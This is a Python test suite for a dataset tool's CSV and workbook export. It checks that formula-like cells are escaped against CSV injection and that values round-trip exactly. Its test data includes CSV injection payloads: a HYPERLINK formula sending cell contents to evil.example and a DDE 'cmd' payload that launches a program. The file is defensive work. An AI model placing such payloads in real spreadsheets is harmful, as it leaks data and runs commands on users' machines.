"""CSV exports cannot attack a spreadsheet (OWASP's CSV injection rule), and reading an export
back gives exactly the values that were written."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cnotrack import export_dataset, load_dataset
from cnotrack.exchange import spreadsheet_safe, spreadsheet_text
from cnotrack.exchange.spreadsheet import FORMULA_TRIGGERS

from conftest import folder_bytes, make_dataset, read_csv_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\tx", "\rx", "=", "'=1+2", "''", "'@x"]


def one_patient(tmp_path: Path, center: str, name: str = "one") -> Path:
    return make_dataset(tmp_path, name, patients=[{"patient_id": "P01", "sex": "F", "center": center}])


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_cell_gets_a_quote_before_it_and_loses_it_on_reading(text):
    written = spreadsheet_safe(text)
    assert written == "'" + text
    assert spreadsheet_text(written) == text


@pytest.mark.parametrize("text", ["P01", "'t was", "'", "Genoa, Gaslini", "-5", "+0.5", "-1e-05", "2.5E3", ""])
def test_plain_text_and_plain_numbers_are_written_as_they_are(text):
    assert spreadsheet_safe(text) == text
    assert spreadsheet_text(text) == text


def test_a_dash_that_is_no_number_is_escaped():
    assert spreadsheet_safe("-") == "'-"
    assert spreadsheet_safe("-5-") == "'-5-"
    assert spreadsheet_safe("-1+2") == "'-1+2"


@given(st.text(max_size=30))
@settings(max_examples=150, deadline=None)
def test_any_text_survives_the_escape_and_no_escaped_cell_starts_a_formula(text):
    written = spreadsheet_safe(text)
    assert spreadsheet_text(written) == text
    if written and written[0] in FORMULA_TRIGGERS:
        assert spreadsheet_safe(written) == written  # only a plain number starts with + or -
        float(written)


def test_an_exported_csv_shows_a_formula_as_text_and_reads_back_as_the_formula(tmp_path):
    folder = one_patient(tmp_path, '=HYPERLINK("http://evil.example","x")')
    data = load_dataset(folder)
    out = export_dataset(data, tmp_path / "out")
    rows = read_csv_rows(out / "patients.csv")
    assert rows[1][5] == '\'=HYPERLINK("http://evil.example","x")'
    again = load_dataset(out)
    assert again.patients["center"].to_list() == ['=HYPERLINK("http://evil.example","x")']
    assert folder_bytes(export_dataset(again, tmp_path / "out2")) == folder_bytes(out)


def test_a_quote_typed_before_a_formula_in_a_csv_file_means_the_text_of_the_formula(tmp_path):
    data = load_dataset(one_patient(tmp_path, "'=1+2"))
    assert data.patients["center"].to_list() == ["=1+2"]


def test_an_extra_column_named_like_a_formula_survives_the_round_trip(tmp_path):
    folder = make_dataset(tmp_path, "x", patients=[["patient_id", "sex", "=cmd"], ["P01", "F", "@x"]])
    data = load_dataset(folder, keep_extra=True)
    out = export_dataset(data, tmp_path / "out")
    assert read_csv_rows(out / "patients.csv")[0][-1] == "'=cmd"
    assert read_csv_rows(out / "patients.csv")[1][-1] == "'@x"
    assert load_dataset(out, keep_extra=True).patients["_extra"].to_list() == ['{"=cmd": "@x"}']


def test_a_formula_like_cell_of_a_workbook_export_is_a_text_cell_not_a_formula(tmp_path):
    data = load_dataset(one_patient(tmp_path, "=1+2"))
    book = export_dataset(data, tmp_path / "out.xlsx")
    cell = openpyxl.load_workbook(book)["patients"]["F2"]
    assert cell.value == "=1+2" and cell.data_type == "s"
    # workbooks carry no escape: a text cell is read exactly as it is
    assert load_dataset(book).patients["center"].to_list() == ["=1+2"]


_STORED_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff") | st.sampled_from(
        list("=+-@'\t\n,\" ")), min_size=1, max_size=20,
).map(str.strip).filter(bool)


@given(st.lists(_STORED_TEXT, min_size=1, max_size=4))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_stored_text_survives_the_real_csv_writer_and_reader(texts):
    with tempfile.TemporaryDirectory() as work:
        work = Path(work)
        data = load_dataset(make_dataset(work, "src", patients=[
            {"patient_id": f"P{i}", "sex": "F"} for i in range(len(texts))]))
        data.tables["patients"] = data.patients.with_columns(pl.Series("center", texts, dtype=pl.String))
        out = export_dataset(data, work / "out")
        with open(out / "patients.csv", newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell or cell[0] not in FORMULA_TRIGGERS or float(cell) is not None
        back = load_dataset(out)
        assert back.patients.sort("patient_id")["center"].to_list() == texts
